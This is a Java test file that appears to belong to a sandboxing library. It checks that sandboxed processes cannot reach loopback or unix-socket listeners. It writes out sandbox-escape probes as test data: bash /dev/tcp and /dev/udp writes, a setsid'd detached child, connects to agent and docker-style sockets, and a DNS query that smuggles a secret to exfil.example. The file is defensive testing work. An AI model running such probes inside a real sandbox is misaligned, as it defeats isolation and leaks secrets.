package io.sandbox4j.testkit;

import static io.sandbox4j.api.Feature.NET_ALLOWLIST;
import static io.sandbox4j.api.Feature.NET_DENY_ALL;
import static io.sandbox4j.testkit.Platform.ANY;
import static io.sandbox4j.testkit.Platform.LINUX;
import static io.sandbox4j.testkit.ScenarioContext.excerpt;

import io.sandbox4j.api.HostPort;
import io.sandbox4j.api.NetworkPolicy;
import io.sandbox4j.api.SandboxPolicy;
import io.sandbox4j.core.SandboxResult;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;

/**
 * Network scenarios. Every listener is one the scenario starts on loopback or a unix socket; the
 * judgement is what the listener saw, never what the command says.
 */
final class NetworkScenarios implements ScenarioGroup {
  @Override
  public void declare(ScenarioTable table) {
    table
        .judging(LINUX, NET_DENY_ALL)
        .rows(
            t ->
                overBothLoopbacks(
                    t,
                    "tcp",
                    "LoopbackListenerSeesNoConnection",
                    "bash connects to a TCP listener on %s through /dev/tcp"))
        .rows(
            t ->
                overBothLoopbacks(
                    t,
                    "udp",
                    "DatagramIsNotDelivered",
                    "bash sends a UDP datagram to a listener on %s"))
        .judging(ANY, NET_DENY_ALL)
        .row(
            "probeTcpConnectIsRefused",
            "a JVM program (which ignores proxy variables) connects to a loopback listener",
            ctx -> {
              Listeners.Tcp l = ctx.closeLater(new Listeners.Tcp(loopbackV4()));
              noContact(ctx, l, ctx.run(ctx.probe("connect", "127.0.0.1", port(l))));
            })
        .judging(LINUX, NET_DENY_ALL)
        .row(
            "ipv4MappedIpv6AddressIsRefused",
            "python connects to a 127.0.0.1 listener as ::ffff:127.0.0.1 over AF_INET6",
            ctx -> {
              Listeners.Tcp l = ctx.closeLater(new Listeners.Tcp(loopbackV4()));
              String connect =
                  "import socket,sys\n"
                      + "s=socket.socket(socket.AF_INET6)\n"
                      + "s.settimeout(3)\n"
                      + "s.connect(('::ffff:127.0.0.1',int(sys.argv[1])))\n";
              noContact(ctx, l, ctx.run(ctx.python(connect, port(l))));
            })
        .row(
            "abstractUnixSocketSeesNoConnection",
            "python connects to an abstract unix socket the host listens on (as D-Bus and X11"
                + " do)",
            ctx -> {
              Path python = ctx.requireTool("python3");
              String name = "sbx4j-" + ctx.token();
              List<String> connect =
                  ctx.python(
                      "import socket,sys\n"
                          + "s=socket.socket(socket.AF_UNIX)\n"
                          + "s.connect('\\0'+sys.argv[1])\n",
                      name);
              Listeners.AbstractUnix l =
                  ctx.closeLater(
                      new Listeners.AbstractUnix(
                          python, name, ctx.outside().resolve("abstract-contact")));
              noContact(ctx, l, ctx.run(connect));
            })
        .judging(ANY, NET_DENY_ALL)
        .optionalRow(
            "pathnameUnixSocketOutsideWorkspaceSeesNoConnection",
            "a JVM program connects to a unix socket outside the workspace (like"
                + " SSH_AUTH_SOCK or docker.sock); Landlock before ABI 9 and network namespaces"
                + " do not stop this, hence optional",
            ctx -> {
              // Socket paths are limited to 107 bytes: use a short directory outside.
              Path dir = Files.createTempDirectory("sbx4j");
              ctx.closeLater(() -> Scratch.deleteTree(dir));
              Path sock = dir.resolve("agent.sock");
              Listeners.Unix l = ctx.closeLater(new Listeners.Unix(sock));
              noContact(ctx, l, ctx.run(ctx.probe("unix-connect", sock.toString())));
            })
        .row(
            "dnsQueryToLoopbackResolverIsNotDelivered",
            "a DNS query carrying data in the name is sent to a resolver listening on"
                + " 127.0.0.1 (DNS as a side channel)",
            ctx -> {
              Listeners.Udp l = ctx.closeLater(new Listeners.Udp(loopbackV4()));
              List<String> query =
                  ctx.probe("dns", "127.0.0.1", port(l), ctx.secret() + ".exfil.example");
              noContact(ctx, l, ctx.run(query));
            })
        .judging(LINUX, NET_DENY_ALL)
        .row(
            "detachedChildCannotConnect",
            "a setsid'd grandchild connects to a loopback listener",
            ctx -> {
              Path bash = ctx.requireTool("bash");
              Listeners.Tcp l = ctx.closeLater(new Listeners.Tcp(loopbackV4()));
              String script = "setsid \"$1\" -c 'echo x > /dev/tcp/127.0.0.1/'\"$2\" & wait";
              noContact(ctx, l, ctx.run(ctx.sh(script, bash.toString(), port(l))));
            })
        .judging(LINUX, NET_ALLOWLIST)
        .row(
            "allowListReachesOnlyListedDestination",
            "with 127.0.0.1:A allow-listed, bash connects to A (must work) and to B (must"
                + " not)",
            NetworkScenarios::allowListReachesOnlyListedDestination);
  }

  private static void allowListReachesOnlyListedDestination(ScenarioContext ctx) throws Exception {
    ctx.requireTool("bash");
    Listeners.Tcp allowed = ctx.closeLater(new Listeners.Tcp(loopbackV4()));
    Listeners.Tcp other = ctx.closeLater(new Listeners.Tcp(loopbackV4()));
    HostPort listed = new HostPort("127.0.0.1", OptionalInt.of(allowed.port()));
    SandboxPolicy p = ctx.policy().network(NetworkPolicy.allow(List.of(listed))).build();
    SandboxResult r =
        ctx.run(
            p,
            ctx.bash(
                "echo a > /dev/tcp/127.0.0.1/$1; echo b > /dev/tcp/127.0.0.1/$2",
                port(allowed),
                port(other)));
    Optional<String> seen = other.contact(Listeners.GRACE);
    ctx.check(
        seen.isEmpty(), seen.orElse("") + " although it is not allow-listed (" + excerpt(r) + ")");
    ctx.check(
        allowed.contact(Listeners.GRACE).isPresent(),
        "the allow-listed listener saw no connection (over-blocked): " + excerpt(r));
  }

  static InetAddress loopbackV4() throws java.net.UnknownHostException {
    return InetAddress.getByName("127.0.0.1");
  }

  private static InetAddress loopbackV6() {
    return Listeners.ipv6Loopback()
        .orElseThrow(() -> new ScenarioSkipped("requires IPv6 loopback (::1) here"));
  }

  private static String port(Listeners.OnPort l) {
    return String.valueOf(l.port());
  }

  /**
   * The same attack on 127.0.0.1 and on [::1]: rows {@code <protocol>V4<what>} and {@code
   * <protocol>V6<what>}, described by {@code description} with the address for {@code %s}.
   */
  private static void overBothLoopbacks(
      ScenarioTable t, String protocol, String what, String description) {
    t.row(
            protocol + "V4" + what,
            String.format(description, "127.0.0.1"),
            ctx -> bashSends(ctx, protocol, loopbackV4(), "127.0.0.1"))
        .row(
            protocol + "V6" + what,
            String.format(description, "[::1]"),
            ctx -> bashSends(ctx, protocol, loopbackV6(), "::1"));
  }

  /**
   * bash writes to {@code /dev/<protocol>/<host>/<port>} of a tcp or udp listener bound to {@code
   * bind}, which must see nothing.
   */
  private static void bashSends(ScenarioContext ctx, String protocol, InetAddress bind, String host)
      throws Exception {
    Listeners.OnPort l =
        ctx.closeLater(protocol.equals("tcp") ? new Listeners.Tcp(bind) : new Listeners.Udp(bind));
    SandboxResult r = ctx.run(ctx.bash("echo probe > /dev/" + protocol + "/$1/$2", host, port(l)));
    noContact(ctx, l, r);
  }

  static void noContact(ScenarioContext ctx, Listeners.Listener l, SandboxResult r)
      throws Exception {
    Optional<String> seen = l.contact(Listeners.GRACE);
    ctx.check(seen.isEmpty(), seen.orElse("") + " from inside the sandbox (" + excerpt(r) + ")");
  }
}
